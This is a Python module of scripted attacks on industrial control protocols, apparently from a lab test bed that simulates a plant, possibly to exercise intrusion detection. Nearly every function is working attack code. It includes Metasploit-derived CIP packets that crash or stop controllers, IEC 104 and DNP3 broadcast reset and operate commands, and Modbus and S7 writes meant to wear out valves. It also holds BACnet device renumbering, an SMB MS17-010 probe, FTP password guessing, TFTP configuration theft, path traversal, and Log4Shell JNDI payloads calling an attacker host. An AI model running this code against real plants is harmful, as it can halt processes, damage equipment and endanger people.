"""Controllers by public tools' modules: Metasploit's for CIP and SMB, maker's search datagrams, libraries' writes."""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import struct
import time
from typing import TYPE_CHECKING, Final

from asyncua import Client

from interlock.plant.actors.boiler import BOILER_REALS
from interlock.plant.protocols import dnp3, iec104, modbus, s7comm
from proving.clients.cip import _requests
from proving.clients.talk import Talk, tell

if TYPE_CHECKING:
    from collections.abc import Callable

    from asyncua.common.subscription import DataChangeNotif

_MODBUS: Final = 502
_DEVICE: Final = 8
_IDENTIFIER: Final = 75
_EVERYBODY: Final = 0xFFFF


def poll_doubled(to: str) -> None:
    """What the panel reads is read on a second connection, ten times a second (an operator's screen copied)."""
    with Talk(to, _MODBUS) as talk:
        for number in range(200):
            talk.say(modbus.adu(number + 1, 1, modbus.read(*((4, 0, 5), (3, 0, 2))[number % 2])), 0.1)


def setpoint_oscillated(to: str) -> None:
    """A set point moved to and fro within what is usual, every two seconds: valves and pumps wear out."""
    with Talk(to, _MODBUS) as talk:
        for number in range(14):
            talk.say(modbus.adu(number + 1, 1, modbus.write_register(0, (1450, 1550)[number % 2])), 2.0)


def write_pipelined(to: str) -> None:
    """Two requests in one segment: the read that is usual, and a write behind it."""
    with Talk(to, _MODBUS) as talk:
        for number in range(6):
            first = modbus.adu(2 * number + 1, 1, modbus.read(4, 0, 5))
            talk.say(first + modbus.adu(2 * number + 2, 1, modbus.write_coil(0, on=bool(number % 2))), 1.0)


def registers_as_mailbox(to: str) -> None:
    """An implant leaves octets in a controller's registers for another one to fetch (modbus tunnel)."""
    with Talk(to, _MODBUS) as talk:
        for number in range(16):
            octets = hashlib.sha256(bytes((number,))).digest()[:8]
            talk.say(modbus.adu(number * 2 + 1, 1, struct.pack("!BHHB", 16, 2, 4, 8) + octets), 0.4)
            talk.say(modbus.adu(number * 2 + 2, 1, modbus.read(3, 2, 4)), 0.4)


def written_together(to: str) -> None:
    """One WriteVar of two items: the set point that is usual, and an output byte beside it."""
    real = next(real for real in BOILER_REALS if real.tag == "boiler.pressure_setpoint")
    usual = bytes((0x12, 10, 0x10, 2)) + struct.pack("!HHB", 4, 1, 0x84) + (real.octet * 8).to_bytes(3, "big")
    output = bytes((0x12, 10, 0x10, 2)) + struct.pack("!HHB", 1, 0, 0x82) + bytes(3)
    data = struct.pack("!BBHf", 0, 4, 32, 6.0) + struct.pack("!BBHB", 0, 4, 8, 0)
    with Talk(to, 102) as talk:
        talk.say(s7comm.connect())
        talk.say(s7comm.setup(1))
        for number in range(3):
            talk.say(s7comm.job(2 + number, b"\x05\x02" + usual + output, data), 1.0)


def cip_crashed(to: str) -> None:
    """Metasploit's multi_cip_command, CRASHCPU and CRASHETHER: paths and services that make no sense."""
    crash = (
        bytes.fromhex("0a0220022401f4f009098804"),
        bytes.fromhex("0e0320f5240110432401104 3".replace(" ", "")),
    )
    _requests(to, [*crash, *crash], 1.0)


def cip_stopped(to: str) -> None:
    """Metasploit's multi_cip_command, STOPCPU: service 7 of the execution object, sent through the backplane."""
    _requests(
        to, [bytes.fromhex("5202200624 0103f00c00070220642401deadbeefcafe01000100".replace(" ", ""))] * 2, 1.0
    )


def stations_reset(to: str) -> None:
    """IEC 104: reset process to every station's common address."""
    with Talk(to, 2404) as talk:
        talk.say(iec104.u_frame(iec104.STARTDT))
        body = struct.pack("<BBHH", 105, 1, 6, _EVERYBODY) + bytes(3) + b"\1"
        talk.say(struct.pack("<BBHH", 0x68, len(body) + 4, 0, 0) + body, 1.0)


def outstations_operated(to: str) -> None:
    """DNP3: DIRECT_OPERATE_NR to the address of everybody, which nobody answers."""
    asked = dnp3.request(1, 6, dnp3.control(0, on=True))
    user = dnp3.user_data(asked)
    with Talk(to, 20000) as talk:
        for _ in range(3):
            talk.say(dnp3.link_frame(0xC4, _EVERYBODY, 10, user), 1.0)


def device_renumbered(to: str) -> None:
    """BACnet: a controller's own number written, so that nobody finds it under the old one."""
    own = struct.pack("!I", _DEVICE << 22 | 5000)
    new = struct.pack("!I", _DEVICE << 22 | 4_194_302)
    for number in range(2):
        apdu = (
            bytes((0, 5, number + 1, 15))
            + b"\x0c"
            + own
            + bytes((0x19, _IDENTIFIER))
            + b"\x3e\xc4"
            + new
            + b"\x3f"
        )
        npdu = b"\x01\x04" + apdu
        tell(to, 47808, struct.pack("!BBH", 0x81, 0x0A, 4 + len(npdu)) + npdu, pause_s=0.5)


class _Deaf:
    def datachange_notification(self, node: object, val: object, data: DataChangeNotif) -> None:
        """Take it."""


def nodes_watched(to: str) -> None:
    """OPC UA: everything below Objects subscribed to."""

    async def do() -> None:
        async with Client(f"opc.tcp://{to}:4840", timeout=2) as client:
            listening = await client.create_subscription(200, _Deaf())
            nodes = [client.nodes.objects]
            for node in nodes[:40]:
                with contextlib.suppress(Exception):
                    nodes += await node.get_children()
                with contextlib.suppress(Exception):
                    await listening.subscribe_data_change(node)
            await asyncio.sleep(4.0)

    with contextlib.suppress(Exception):  # what a server refuses, a library raises in many ways
        asyncio.run(do())


def makers_searched(to: str) -> None:  # noqa: ARG001 - to everybody
    """Metasploit's scanners of makers' own searches: ADDP, Moxa, Koyo's HAP, Lantronix, each to everybody."""
    asked = (("224.0.5.128", 2362, b"DIGI\x00\x01\x00\x06\xff\xff\xff\xff\xff\xff"),
             ("10.77.1.255", 4800, bytes.fromhex("0100000800000000")),
             ("10.77.1.255", 28784, b"HAP\xe6\x01\x6e\x68\x0d\x05\x00\x15\x00\x01"),
             ("10.77.1.255", 30718, bytes.fromhex("000000f6")))  # fmt: skip
    for _ in range(2):
        for address, port, octets in asked:
            with contextlib.suppress(OSError):
                tell(address, port, octets, pause_s=0.4)


def smb_probed(to: str) -> None:
    """Metasploit's smb_ms17_010: SMB 1 agreed on, an empty session, IPC$, PeekNamedPipe of nothing."""

    def smb(command: int, body: bytes, user: int = 0) -> bytes:
        head = b"\xffSMB" + bytes((command,)) + bytes(4) + b"\x18\x01\x28" + bytes(12)
        packet = head + struct.pack("<HHHH", 0, 0xFEFF, user, 0x40) + body
        return struct.pack("!I", len(packet)) + packet

    with Talk(to, 445) as talk:
        talk.say(smb(0x72, b"\x00\x0c\x00\x02NT LM 0.12\x00"))
        talk.say(smb(0x73, bytes.fromhex("0dff00000004110a000000000000000100000000000000000b00") + bytes(11)))
        talk.say(
            smb(0x75, b"\x04\xff\x00\x00\x00\x00\x00\x01\x00\x1c\x00\x00\\\\10.77.1.30\\IPC$\x00?????\x00", 8)
        )
        talk.say(
            smb(
                0x25,
                bytes.fromhex(
                    "10000000 00ffffffff0000000000000000000000004a00000 04a0002002300000007005c504950455c00".replace(
                        " ", ""
                    )
                ),
                8,
            )
        )


def controller_attacks(to: str) -> None:
    """Evil PLC: a controller tries what an engineering station offers."""
    for port in (445, 3389, 5985, 135, 22, 8080, 4840, 1433):
        with Talk(to, port, 0.3) as talk:
            talk.say(b"\x00\x00\x00\x2f\xffSMB" + bytes(43) if port == 445 else b"", 0.3)


def files_guessed_slowly(to: str) -> None:
    """Passwords of a file service, one every eight seconds, each in a connection of its own."""
    for word in (
        "1234",
        "admin",
        "ftp",
        "factorycast",
        "ntpupdate",
        "sysdiag",
        "password",
        "USER",
        "pcfactory",
    ):
        with Talk(to, 21) as talk:
            talk.say(b"", 0.1)
            talk.say(b"USER admin\r\n", 0.1)
            talk.say(b"PASS " + word.encode("ascii") + b"\r\n", 0.1)
        time.sleep(7.5)


def configuration_fetched(to: str) -> None:
    """Metasploit's tftpbrute: a switch's configuration asked for by the names that it usually has."""
    for name in (b"running-config", b"startup-config", b"config.txt", b"backup.cfg", b"router.cfg"):
        tell(to, 69, b"\x00\x01" + name + b"\x00octet\x00", pause_s=0.5)


def page_exploited(to: str) -> None:
    """A panel's pages asked for files above their folder, and for a name that is looked up at the attacker's."""
    for path in (
        "/../../../../windows/win.ini",
        "/cgi-bin/.%2e/%2e%2e/bin/sh",
        "/?x=${jndi:ldap://10.77.1.40/a}",
    ):
        with Talk(to, 5985) as talk:
            head = (
                f"GET {path} HTTP/1.1\r\nHost: {to}\r\nUser-Agent: ${{jndi:ldap://10.77.1.40:1389/a}}\r\n\r\n"
            )
            talk.say(head.encode("ascii"), 0.5)


CLIENTS: Final[dict[str, Callable[[str], None]]] = {
    "poll-doubled": poll_doubled,
    "setpoint-oscillated": setpoint_oscillated,
    "write-pipelined": write_pipelined,
    "registers-as-mailbox": registers_as_mailbox,
    "written-together": written_together,
    "cip-crashed": cip_crashed,
    "cip-stopped": cip_stopped,
    "stations-reset": stations_reset,
    "outstations-operated": outstations_operated,
    "device-renumbered": device_renumbered,
    "nodes-watched": nodes_watched,
    "makers-searched": makers_searched,
    "smb-probed": smb_probed,
    "controller-attacks": controller_attacks,
    "files-guessed-slowly": files_guessed_slowly,
    "configuration-fetched": configuration_fetched,
    "page-exploited": page_exploited,
}
